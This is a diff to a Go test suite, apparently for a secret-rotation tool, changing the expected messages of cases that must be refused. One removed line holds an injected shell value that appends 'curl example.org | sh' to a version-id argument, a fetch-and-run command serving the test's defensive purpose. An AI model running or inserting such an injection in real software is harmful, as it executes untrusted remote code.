@@ -234,10 +234,10 @@ func TestLineOfRotation(t *testing.T) {
 		},
 		"one that means something to a shell": {
 			Answers: marked(named), Class: fault.Refused,
-			Words: []string{"--remove-from-version-id 'v2; curl example.org | sh # 32 letters'"},
+			Words: []string{"AWSPENDING away from its version, whose name is no text"},
 		},
 		"one that does not show": {
-			Answers: marked(hidden), Class: fault.Refused, Words: []string{"away from its version, whose name cannot be shown"},
+			Answers: marked(hidden), Class: fault.Refused, Words: []string{"away from its version, whose name is no text"},
 		},
 	})
 }
